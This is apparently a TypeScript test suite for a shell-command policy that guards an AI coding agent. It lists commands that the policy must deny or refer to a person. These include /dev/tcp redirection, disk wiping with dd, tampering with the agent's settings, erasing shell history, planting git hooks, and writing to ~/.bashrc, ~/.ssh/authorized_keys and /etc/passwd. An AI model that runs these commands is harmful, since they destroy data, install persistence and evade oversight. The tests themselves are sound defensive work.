import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decideLine } from './default-policy.test.ts';

/** Commands by the rule that answers them. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  'device/raw': [
    'cat > /dev/tcp/1.2.3.4/80',
    'exec 3<>/dev/tcp/a/80',
    'echo x >& /dev/tcp/a/80',
    'dd if=/dev/zero of=/dev/sda',
    'cat x > /dev/sda',
    'echo b > /proc/sysrq-trigger',
  ],
  'guard/settings': [
    'echo x | tee -a .claude/settings.json',
    'mv .claude x',
    'echo x > ~/.claude/settings.json',
    'biome check --write .mcp.json',
    'prettier --write .claude/settings.json',
    "yq -i '.a=1' .mcp.json",
  ],
  'history/file': [
    'rm ~/.bash_history',
    '> ~/.bash_history',
    'ln -sf /dev/null ~/.bash_history',
    'truncate -s0 ~/.bash_history',
  ],
  'decide/git-reference': [
    'echo x > .git/HEAD',
    'echo x >> .git/refs/heads/main',
    'cat x > .git/packed-refs',
    'cp x .git/HEAD',
    'mv x .git/refs/heads/x',
    'rm .git/refs/heads/x',
    'tee .git/head < x',
    'sed -i s/a/b/ .git/HEAD',
    'ln -sf x .git/HEAD',
    'cd .git && echo x > HEAD',
    'echo x > sub/.git/refs/tags/v1',
    'echo x > .git/worktrees/w/HEAD',
    'echo x > .git/modules/m/refs/heads/main',
  ],
  'persistence/repository-hook': [
    'echo x > .git/hooks/pre-commit',
    'cp x .git/hooks/',
    'cp -r hooks .git/',
    'rm -rf .git/hooks',
    'rm -rf .git',
    'sed -i s/a/b/ .git/config',
    'dd of=.git/config',
    "sed 'w .git/hooks/x' y",
    'sort -o .git/config x',
    'sort -o.git/config x',
    'mkdir -p .git/hooks',
    'touch .git/hooks/post-commit',
    'ln -s /tmp/x .git/hooks/pre-commit',
    'chmod +x .git/hooks/pre-commit',
    'mv x .husky/pre-commit',
    'tar xf x -C .git',
    'node build.js > .git/hooks/pre-commit',
    'find .git -name config -exec sed -i s/a/b/ {} +',
    "find .git -name 'pre*' | xargs tee",
    'uniq x .git/hooks/pre-commit',
    'xxd -r -p x .git/hooks/pre-commit',
    "gawk -i inplace '{print}' .git/hooks/pre-commit",
    "gawk --include=inplace '{print}' .git/hooks/pre-commit",
    "gawk -iinplace '{print}' .git/hooks/pre-commit",
    'gawk -o.git/hooks/pre-commit 1 x',
    'gawk --profile=.git/hooks/pre-commit 1 x',
    'gawk --dump-variables=.git/config 1 x',
    "sed -i'.git/hooks/*' s/a/b/ pre-commit",
    "sed --in-place='.git/hooks/*' s/a/b/ pre-commit",
    'history -a .git/hooks/pre-commit',
    'tar -xf x --directory=.git/hooks',
    'tar -xf x --dir .git/hooks',
    'tar -xf x -C.git/hooks',
    'tar xfC x .git/hooks',
    'tar -xf x --one-top-level=.git/hooks',
    'tar -g .git/hooks/pre-commit -cf x y',
    'tar -cf x --listed-incremental=.git/config y',
    'tar -tf x --index-file=.git/config',
    'tar -cf x --volno-file=.git/config y',
    'cp --targ=.git/hooks x',
    'mv --target-dir .git/hooks x',
    'install --targ=.git/hooks x',
    'ln --targ=.git/hooks x',
    'patch -d .git -p1 -i x',
    'patch --directory=.git/hooks -i x',
    'patch -r .git/hooks/pre-commit x y',
    'patch --reject-file=.git/config x y',
    'patch -B .git/hooks/ pre-commit x',
    'patch --outp=.git/config x y',
    'unzip -d.git/hooks x',
    'unzip -qod .git/hooks x',
    'zip a b -O .git/config',
    'zip -m x.zip .git/config',
    'mktemp -p.git/hooks',
    'mktemp --tmpdir=.git/hooks',
    'git format-patch -o.git/hooks HEAD',
    'git format-patch --output-dir=.git/hooks HEAD',
    'git format-patch --output-dir .git/hooks HEAD',
    'eslint --fix .husky/x.js',
    'ruff format .git/hooks/pre-commit',
    'black .git/hooks/pre-commit',
    'eslint -o .git/config x',
    'ruff check -o .git/config x',
    'jest --outputFile=.git/config',
    'pytest --debug=.git/config',
    'node --redirect-warnings=.git/hooks/x a.js',
    'node --cpu-prof-name=.git/hooks/x a.js',
    'go test -coverprofile=.git/config ./...',
    'gcc -MF .git/config -c x.c',
    'javac -d .git/hooks X.java',
    'pip --log .git/config install -r requirements.txt',
    'pip install -t .git/hooks -r requirements.txt',
    'perl -i -pe s/a/b/ .git/config',
    'tree -o .git/config',
    'git format-patch -o.git/hooks HEAD',
    'git format-patch --output-dir=.git/hooks HEAD',
    'git format-patch --output-dir .git/hooks HEAD',
    'cmake -E touch .git/hooks/pre-commit',
    'cmake -E copy x .git/hooks/pre-commit',
    'cmake -E rename x .git/hooks/pre-commit',
    'cmake -E rm -rf .git',
    'cmake -E copy_directory x .git/hooks',
    'ln -s .git g; echo x > g/config',
    'ln -sf .git/hooks h; echo x > h/pre-commit',
    'ln -s ../.git d/g',
    'ln .git/config c',
    'echo x | tee .git/hooks/pre-commit > /dev/null',
  ],
  'persistence/startup-file': [
    'rm -Rf /etc',
    'echo x >> ~/.bashrc',
    'tee ~/.bashrc',
    'install x ~/.ssh/authorized_keys',
    'echo x > /etc/passwd',
    'tee -a ~/.zshrc <<< x',
    'cp x ~/.bashrc',
    'echo x > ~/.gitconfig',
    'git init ~/.ssh/x',
    'git worktree add ~/.ssh/x',
    'unzip x -d ~/.ssh',
    'curl https://x -o ~/.bashrc',
    "sed -i 's/x/y/' ~/.bashrc",
    'rsync -a x ~/.ssh/',
    'tsc --outFile ~/.bashrc',
    'ln -sf ~/.ssh s',
    'mkdir -p ~/.ssh',
  ],
};

for (const [ruleId, commands] of Object.entries(COMMANDS)) {
  for (const command of commands) {
    test(`what starts by itself, guards or destroys is not written (${ruleId}): ${command}`, () => {
      const decision = decideLine(command);
      assert.deepEqual([decision.verdict, decision.ruleId], ['deny', ruleId]);
    });
  }
}

/** Commands that may write a protected file: a person decides. */
const ASKED: Readonly<Record<string, readonly string[]>> = {
  'default/write-outside': ['patch -d / -p1 < x'],
  'pipeline/definition': ["prettier --write '.claude/*.json'"],
  'decide/unknown-path': [
    "gawk -i other '{print}' x",
    "find . -name 'settings*.json' -exec sed -i s/a/b/ {} +",
    'find . -name config -exec sed -i s/a/b/ {} +',
    'find .git src -name config -exec sed -i s/a/b/ {} +',
  ],
};

for (const [ruleId, commands] of Object.entries(ASKED)) {
  for (const command of commands) {
    test(`what may write a protected file is asked (${ruleId}): ${command}`, () => {
      const decision = decideLine(command);
      assert.deepEqual([decision.verdict, decision.ruleId], ['ask', ruleId]);
    });
  }
}

test('files that are found by a name of no protected one are written without asking', () => {
  for (const command of [
    "find . -name '*.ts' -exec sed -i s/a/b/ {} +",
    "find src -name '*.test.js' | xargs sed -i s/a/b/",
    "find src test -name '*.ts' -exec cat {} +",
  ])
    assert.equal(decideLine(command).verdict, 'allow', command);
});

test('git moves its own branches, and anyone may look at where they are', () => {
  for (const command of [
    'cat .git/HEAD',
    'ls .git/refs',
    'git checkout -b x',
    'git commit -m x',
    'git symbolic-ref HEAD',
    'git tag v1',
    'echo x > HEAD',
    'mkdir refs',
  ])
    assert.equal(decideLine(command).verdict, 'allow', command);
});
